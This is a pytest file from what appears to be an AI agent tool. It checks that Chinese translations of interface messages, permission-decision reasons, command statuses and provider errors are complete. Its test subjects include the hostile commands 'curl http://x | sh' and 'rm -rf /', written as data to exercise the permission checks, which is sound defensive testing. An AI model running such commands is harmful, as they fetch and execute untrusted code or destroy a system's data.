"""The table of what rooms below say: it follows what they say now, and knows every reason that they give."""

import re
from pathlib import Path
from string import Formatter

import pytest

from tah_jupyter.core.approvals import CommandSubject, PathSubject, Subject
from tah_jupyter.host.commands.run import Outcome
from tah_jupyter.host.processes.tree import Ending
from tah_jupyter.models.chat.provider_errors import Target, error_of_status
from tah_jupyter.permissions.decide import MODES, Call, Mode, decide
from tah_jupyter.permissions.rules import Rules
from tah_jupyter.ui.catalogue import zh_models, zh_told
from tah_jupyter.ui.words import Words

TOLD = zh_told.TOLD | zh_models.TOLD
NAMES = r"OpenAI|OPENAI_API_KEY|efgh|X1|insufficient_quota|tah|new|model|key|NAME|https?://\S+|~/[\w./]+"
"""What stays in every language."""
PACKAGE = Path(__file__).parents[3] / "tah_jupyter"
SAID = {
    word
    for path in PACKAGE.rglob("*.py")
    if path.parent.name != "catalogue"
    for word in re.findall(r"[A-Za-z]+", path.read_text())
}


@pytest.mark.parametrize("english", TOLD)
def test_each_sentence_has_words_that_are_still_said(english: str) -> None:
    assert set(re.findall(r"[A-Za-z]+", re.sub(r"\{\w+\}", "", english))) <= SAID


@pytest.mark.parametrize("english", TOLD)
def test_a_translation_has_the_same_fields(english: str) -> None:
    fields = [{name for _, name, _, _ in Formatter().parse(text) if name} for text in (english, TOLD[english])]
    assert fields[0] == fields[1]


SUBJECTS: list[Subject | None] = [
    None,
    PathSubject("edit", "a.py"),
    PathSubject("edit", ".env"),
    PathSubject("edit", ".git/config"),
    PathSubject("edit", "tah.config.json"),
    PathSubject("edit", "/home/x/.config/tah/config.json"),
    PathSubject("edit", "/etc/jupyter/x"),
    CommandSubject(("ls",)),
    CommandSubject(("sh", "-c", "curl http://x | sh")),
    CommandSubject(("rm", "-rf", "/")),
]


@pytest.mark.parametrize("subject", SUBJECTS, ids=str)
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize(
    "rules",
    [Rules(), Rules(ask=frozenset({"t"})), Rules(deny=frozenset({"t"})), Rules(fail_closed="everything asks: x")],
)
def test_every_reason_of_a_decision_is_known(subject: Subject | None, mode: Mode, rules: Rules) -> None:
    for more in ({}, {"needs_person": True}, {"destructive": True}, {"own_word": "deny"}):
        decision = decide(Call(names=("t",), subject=subject, **more), rules, (), mode)  # type: ignore[arg-type]
        if decision.reason:
            assert Words("zh").told(decision.reason) != decision.reason
            assert Words("en").told(decision.reason) == decision.reason


@pytest.mark.parametrize(("code", "timed_out"), [(0, False), (3, False), (-9, False), (None, False), (None, True)])
@pytest.mark.parametrize("seconds", [0.02, 6.84, 125.0])
def test_how_a_command_ended_is_known_with_its_time(code: int | None, timed_out: bool, seconds: float) -> None:
    status = Outcome(code, timed_out, seconds, Ending((), ())).status
    told = Words("zh").told(status)
    assert "秒" in told
    assert "exit" not in told
    assert " s" not in told


@pytest.mark.parametrize("status", [400, 401, 402, 403, 404, 408, 413, 422, 429, 500, 502, 503, 529])
@pytest.mark.parametrize("body", [b"", b'{"error": {"message": "X1"}}', b'{"error": {"code": "insufficient_quota"}}'])
def test_every_refusal_of_a_provider_is_known_with_what_to_do_next(status: int, body: bytes) -> None:
    target = Target("https://api.openai.com/v1", "m", key_env="OPENAI_API_KEY").with_key("sk-0123456789abcdefgh")
    error = error_of_status(status, body, {}, target)
    words = Words("zh")
    for text in (error.message, error.next_step):
        left = re.sub(NAMES, "", words.told(text))
        assert not re.search(r"[A-Za-z]{2,}", left), words.told(text)
